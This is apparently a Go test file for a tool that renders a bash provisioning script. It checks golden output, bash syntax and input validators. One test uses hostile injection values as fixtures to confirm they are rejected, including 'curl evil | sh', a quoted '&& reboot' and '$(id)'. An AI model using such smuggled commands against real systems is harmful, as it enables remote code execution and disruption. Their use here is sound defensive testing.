package guest

import (
	"os/exec"
	"strings"
	"testing"

	goldenfile "github.com/k3sm-dev/k3sm/internal/golden"
)

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	goldenfile.Check(t, name, got)
}

func TestProvisionGolden(t *testing.T) {
	got, err := Render(DefaultSpec())
	if err != nil {
		t.Fatal(err)
	}
	golden(t, "provision-default.sh", got)

	s := DefaultSpec()
	s.Kind.SHA256 = map[string]string{"arm64": strings.Repeat("a", 64), "amd64": strings.Repeat("b", 64)}
	s.CacheDir = "/Users/dev/.klimax/registry-cache"
	got, err = Render(s)
	if err != nil {
		t.Fatal(err)
	}
	golden(t, "provision-pinned-sums.sh", got)
}

// The rendered script must at least parse as bash.
func TestProvisionParsesAsBash(t *testing.T) {
	bash, err := exec.LookPath("bash")
	if err != nil {
		t.Skip("no bash")
	}
	got, err := Render(DefaultSpec())
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(bash, "-n")
	cmd.Stdin = strings.NewReader(string(got))
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("bash -n: %v\n%s", err, out)
	}
}

func TestProvisionRefusesUnsafeInput(t *testing.T) {
	cases := map[string]func(*Spec){
		"kind version": func(s *Spec) { s.Kind.Version = "v0.31.0; curl evil | sh" },
		"kubectl":      func(s *Spec) { s.Kubectl.Version = "latest" },
		"docker":       func(s *Spec) { s.DockerVersion = "5:28' && reboot '" },
		"cache dir":    func(s *Spec) { s.CacheDir = "/var/lib/$(id)" },
		"relative dir": func(s *Spec) { s.CacheDir = "cache" },
		"dotdot":       func(s *Spec) { s.CacheDir = "/var/../etc" },
		"inotify":      func(s *Spec) { s.InotifyMaxUserWatches = 0 },
		"sha":          func(s *Spec) { s.Kubectl.SHA256 = map[string]string{"arm64": "abc"} },
		"sha arch":     func(s *Spec) { s.Kubectl.SHA256 = map[string]string{"arm64;x": strings.Repeat("a", 64)} },
	}
	for name, mod := range cases {
		s := DefaultSpec()
		mod(&s)
		if _, err := Render(s); err == nil {
			t.Errorf("%s: unsafe input accepted", name)
		} else if !strings.Contains(err.Error(), "fix:") {
			t.Errorf("%s: error without a fix: %v", name, err)
		}
	}
}

func TestValidators(t *testing.T) {
	if p, err := ValidateCIDR("cidr", "172.30.0.0/16"); err != nil || p.Bits() != 16 {
		t.Errorf("cidr: %v %v", p, err)
	}
	for _, bad := range []string{"172.30.0.1/16", "172.30.0.0", "fd00::/8", "x"} {
		if _, err := ValidateCIDR("cidr", bad); err == nil {
			t.Errorf("cidr %q accepted", bad)
		}
	}
	for _, p := range []int{0, -1, 65536} {
		if err := ValidatePort("port", p); err == nil {
			t.Errorf("port %d accepted", p)
		}
	}
	if err := ValidatePort("port", 7001); err != nil {
		t.Error(err)
	}
}
